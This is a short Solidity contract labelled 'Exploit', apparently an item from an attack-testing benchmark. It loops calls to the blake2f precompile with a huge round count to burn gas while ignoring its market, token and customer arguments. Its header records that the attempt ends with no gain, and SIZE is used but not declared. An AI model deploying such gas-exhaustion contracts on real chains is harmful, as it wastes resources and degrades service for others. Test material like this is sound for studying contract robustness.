// attack: a precompile that does most for its gas
// ends: NO_GAIN
// size: 29000000
// control: 12
pragma solidity ^0.8.20;

contract Exploit {
    uint256 private kept;

    function run(address market, address token, address customer) external {
        market; token; customer;
        bytes memory rounds = abi.encodePacked(uint32(SIZE), new bytes(208), bytes1(0x01));
        while (gasleft() > SIZE + 100000 && kept < 5) { address(9).staticcall(rounds); kept++; }
    }
}
